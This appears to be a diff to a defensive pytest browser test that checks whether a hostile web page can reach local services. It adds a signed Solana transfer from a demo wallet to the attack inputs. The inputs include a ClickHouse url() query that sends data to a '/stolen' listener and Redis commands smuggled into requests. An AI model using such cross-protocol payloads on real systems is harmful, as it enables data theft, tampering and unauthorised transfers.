@@ -6,22 +6,34 @@ its name at 127.0.0.1 (DNS rebinding); one more stranger is on this machine, at 
 
 from __future__ import annotations
 
+import json
 import os
+from base64 import b64encode
 from collections.abc import Iterator
 from contextlib import suppress
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
+from typing import Any
+from urllib.parse import urlsplit
 
+import httpx
 import psutil
 import pytest
 import redis
 from playwright.sync_api import Browser, StorageState
 from playwright.sync_api import Error as PlaywrightError
+from solders.hash import Hash
+from solders.message import Message
+from solders.pubkey import Pubkey
+from solders.system_program import TransferParams, transfer
+from solders.transaction import VersionedTransaction
 
+from infra.chain import demo_wallets
 from infra.clickhouse.client import connect as connect_clickhouse
 from infra.settings import Settings
 from tests.support.dashboard import STRANGER, Up
+from tests.support.waiting import eventually
 
 pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]
 
@@ -81,7 +93,7 @@ def ports(up: Up) -> list[int]:
     return sorted({address.port for address in listening})
 
 
-def texts(folder: Path, port: int) -> list[str]:
+def texts(folder: Path, port: int, call: str) -> list[str]:
     """Return what systems would do something at, if they took it from a page."""
     away = f"http://127.0.0.1:{port}/stolen"
     return [
@@ -91,7 +103,50 @@ def texts(folder: Path, port: int) -> list[str]:
         f"SELECT * FROM url('{away}?' || (SELECT toString(count()) FROM soltape.swaps), 'CSV')",
         f"\r\nSET {MARK} 1\r\nCONFIG SET dir {folder}\r\nSHUTDOWN NOSAVE\r\n",
         f"*3\r\n$3\r\nSET\r\n${len(MARK)}\r\n{MARK}\r\n$1\r\n1\r\n",
+        call,
     ]
+
+
+class Purse:
+    """A demo wallet, whose key anybody knows, before the local chain."""
+
+    def __init__(self, up: Up) -> None:
+        self._rpc_url = up.addresses["RPC_ENDPOINT"]
+        self._payer = demo_wallets.keypair(demo_wallets.PAYER)
+        self._signed: list[str] = []
+
+    def call(self) -> str:
+        """Return a call that moves some of what it holds, each time another."""
+        seller = Pubkey.from_bytes(demo_wallets.address(demo_wallets.SELLER))
+        moved = TransferParams(
+            from_pubkey=self._payer.pubkey(), to_pubkey=seller, lamports=1 + len(self._signed)
+        )
+        recent = Hash.from_string(self._ask("getLatestBlockhash", [])["value"]["blockhash"])
+        message = Message.new_with_blockhash([transfer(moved)], self._payer.pubkey(), recent)
+        transaction = VersionedTransaction(message, [self._payer])
+        self._signed.append(str(transaction.signatures[0]))
+        wire = b64encode(bytes(transaction)).decode()
+        return _call("sendTransaction", [wire, {"encoding": "base64"}])
+
+    def landed(self) -> int:
+        """Return how many of the calls moved something."""
+        statuses = self._ask("getSignatureStatuses", [self._signed])["value"]
+        return sum(each is not None for each in statuses)
+
+    def send(self, call: str) -> None:
+        """Make a call as programs do."""
+        assert "result" in self._answer(call)
+
+    def _ask(self, method: str, params: list[Any]) -> Any:
+        return self._answer(_call(method, params))["result"]
+
+    def _answer(self, call: str) -> Any:
+        headers = {"content-type": "application/json"}
+        return httpx.post(self._rpc_url, content=call, headers=headers, timeout=60).json()
+
+
+def _call(method: str, params: list[Any]) -> str:
+    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
 
 
 @pytest.mark.parametrize("at", [STRANGER, "127.0.0.1"], ids=["another site", "this machine"])
@@ -100,8 +155,11 @@ def test_nothing_is_read_written_or_started(
 ) -> None:
     before = sorted(process.pid for process in family(up))
     listening = ports(up)
-    known = {int(port) for name, port in up.addresses.items() if name.endswith("_PORT")}
+    known = {int(port) for name, port in up.addresses.items() if "_PORT" in name}
+    for name in ("RPC_ENDPOINT", "SIGNIN_ISSUER", "X402_FACILITATOR_URL"):
+        known.add(urlsplit(up.addresses[name]).port or 0)
     assert known <= set(listening)
+    purse = Purse(up)
     assert len(listening) >= 9, listening
     visitor = browser.new_context(storage_state=session)  # who has opened the link before
     page = visitor.new_page()
@@ -112,7 +170,7 @@ def test_nothing_is_read_written_or_started(
         for host in ("127.0.0.1", STRANGER):
             outcomes = page.evaluate(
                 "([host, port, texts]) => attack(host, port, texts)",
-                [host, port, texts(up.folder, stranger.port)],
+                [host, port, texts(up.folder, stranger.port, purse.call())],
             )
             assert len(outcomes) > 30
             read += [
@@ -128,6 +186,9 @@ def test_nothing_is_read_written_or_started(
             answer = page.goto(f"http://{STRANGER}:{port}/", timeout=10_000)
         assert answer is None or answer.status >= 400, (port, answer.status)
     visitor.close()
+    assert not purse.landed()
+    purse.send(purse.call())
+    eventually(lambda: purse.landed() == 1)
     assert sorted(process.pid for process in family(up)) == before
     assert not [path for path in stranger.asked if "stolen" in path]
     nothing_is_written(up)
